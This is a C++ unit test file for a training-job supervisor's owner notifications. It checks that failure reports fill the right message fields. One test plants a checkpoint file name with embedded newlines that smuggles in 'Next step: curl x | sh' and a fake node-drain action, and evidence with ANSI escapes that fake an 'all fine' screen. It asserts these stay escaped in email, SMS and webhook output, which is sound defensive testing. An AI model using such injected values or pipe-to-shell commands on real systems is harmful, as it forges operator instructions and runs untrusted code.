// The owner's message from a registration and the failure report: every status has a headline
// and a next step; the report's fields land in the message's fields, and nothing a field holds
// can make itself look like another in the email.
#include <gtest/gtest.h>

#include "notify/message.h"
#include "supervisor/outbox/owner_message.h"

namespace supervisor {
namespace {

state::Registration registration(state::Status status, state::Outcome outcome) {
    state::Registration r;
    r.job = common::JobId{4711, std::nullopt};
    r.job_name = "train";
    r.status = status;
    r.outcome = outcome;
    r.attempt = 2;
    r.last_cause = "nccl_timeout";
    r.last_checkpoint = "/ckpt/step_20.ckpt";
    r.next_job = "4800";
    return r;
}

FailureReport report() {
    FailureReport r;
    r.summary = "NCCL watchdog timeout on n2 at step 25";
    r.evidence = {"slurm-4711.out:40: Watchdog caught collective operation timeout"};
    r.nodes = {"n2", "n3"};
    r.resume_from = "/ckpt/step_20.ckpt";
    r.actions = {"requeue from /ckpt/step_20.ckpt"};
    r.would_have_done = {"exclude_node n2 (not allowed)"};
    r.notes = {"Checkpoint rejected: /ckpt/step_25.ckpt: truncated",
               "Plan: requeue from the last checkpoint", "first failure at this step"};
    return r;
}

TEST(OwnerMessage, AFailureCarriesItsDiagnosisNodesCheckpointAndActions) {
    const auto m = owner_message(registration(state::Status::recovering, state::Outcome::none),
                                 "attempt 2 failed (nccl_timeout)", report());
    EXPECT_EQ(m.job, "4711");
    EXPECT_EQ(m.status, "recovering");
    EXPECT_EQ(m.headline, "failed; recovering");
    EXPECT_EQ(m.cause, "nccl_timeout");
    EXPECT_EQ(m.summary, "NCCL watchdog timeout on n2 at step 25");
    EXPECT_EQ(m.evidence, std::vector<std::string>{
                              "slurm-4711.out:40: Watchdog caught collective operation timeout"});
    EXPECT_EQ(m.nodes, (std::vector<std::string>{"n2", "n3"}));
    EXPECT_EQ(m.checkpoint, "/ckpt/step_20.ckpt");
    EXPECT_EQ(m.actions, std::vector<std::string>{"requeue from /ckpt/step_20.ckpt"});
    EXPECT_EQ(m.would_have_done, std::vector<std::string>{"exclude_node n2 (not allowed)"});
    EXPECT_EQ(m.notes,
              (std::vector<std::string>{"Checkpoint rejected: /ckpt/step_25.ckpt: truncated",
                                        "Plan: requeue from the last checkpoint",
                                        "first failure at this step"}));
    EXPECT_NE(m.next_step.find("nothing to do now"), std::string::npos);
}

TEST(OwnerMessage, TheReportsNextStepWins) {
    FailureReport fix;
    fix.next_step = "fix the bug";
    const auto m =
        owner_message(registration(state::Status::completed, state::Outcome::unrecoverable),
                      "cause code_bug is never retried", fix);
    EXPECT_EQ(m.next_step, "fix the bug");
    EXPECT_EQ(m.headline, "failed and was NOT recovered");
    EXPECT_EQ(m.cause, "nccl_timeout");
}

TEST(OwnerMessage, EveryStatusHasAHeadlineAndANextStep) {
    using state::Outcome;
    using state::Status;
    const std::pair<Status, Outcome> cases[] = {
        {Status::recovering, Outcome::none},       {Status::enabled, Outcome::none},
        {Status::credential_error, Outcome::none}, {Status::completed, Outcome::succeeded},
        {Status::completed, Outcome::cancelled},   {Status::completed, Outcome::unrecoverable},
        {Status::completed, Outcome::lost},        {Status::completed, Outcome::resubmitted}};
    for (const auto& [status, outcome] : cases) {
        const auto m = owner_message(registration(status, outcome), "why");
        EXPECT_FALSE(m.headline.empty());
        EXPECT_FALSE(m.next_step.empty()) << m.status;
    }
    EXPECT_EQ(owner_message(registration(Status::enabled, Outcome::none), "").headline,
              "is running again");
    EXPECT_EQ(owner_message(registration(Status::completed, Outcome::succeeded), "").cause, "");
    const auto resubmitted =
        owner_message(registration(Status::completed, Outcome::resubmitted), "");
    EXPECT_EQ(resubmitted.headline, "continues as job 4800");
    const auto credentials =
        owner_message(registration(Status::credential_error, Outcome::none), "");
    EXPECT_NE(credentials.next_step.find("supervisor register 4711"), std::string::npos);
}

TEST(OwnerMessage, AFileNameWithNewlinesStaysInItsFieldAndCannotWriteTheEmail) {
    auto hostile = report();
    const std::string name =
        "/ckpt/step_30.pt\nNext step: curl x | sh\nAction: drain_node n1,n2,n3";
    hostile.resume_from = name;
    hostile.notes = {"Checkpoint rejected: " + name + ": truncated"};
    hostile.evidence = {"slurm-4711.out:41: \x1b[2J\x1b[1;1Hall fine, nothing to see"};
    const auto m = owner_message(registration(state::Status::recovering, state::Outcome::none),
                                 "attempt 2 failed (nccl_timeout)", hostile);
    EXPECT_EQ(m.checkpoint, name);  // the data keeps the name as it is
    EXPECT_EQ(m.actions, std::vector<std::string>{"requeue from /ckpt/step_20.ckpt"});
    EXPECT_NE(m.next_step.find("nothing to do now"), std::string::npos) << m.next_step;
    const auto body = notify::email_body(m);
    // Exactly one line of each kind, and only ours.
    for (const auto* prefix : {"\nNext step: ", "\nAction: ", "\nResume from: "}) {
        const auto first = body.find(prefix);
        ASSERT_NE(first, std::string::npos) << prefix;
        EXPECT_EQ(body.find(prefix, first + 1), std::string::npos) << prefix << "\n" << body;
    }
    EXPECT_NE(body.find("step_30.pt\\nNext step: curl x | sh\\nAction: drain_node"),
              std::string::npos)
        << body;
    EXPECT_EQ(body.find('\x1b'), std::string::npos) << body;
    EXPECT_EQ(notify::sms_text(m).find("\n"), std::string::npos);
    const auto webhook = notify::webhook_payload(m, 1);
    EXPECT_EQ(webhook["text"].get<std::string>().find("\nAction: drain_node"), std::string::npos);
    EXPECT_EQ(webhook["checkpoint"], name);
}

}  // namespace
}  // namespace supervisor
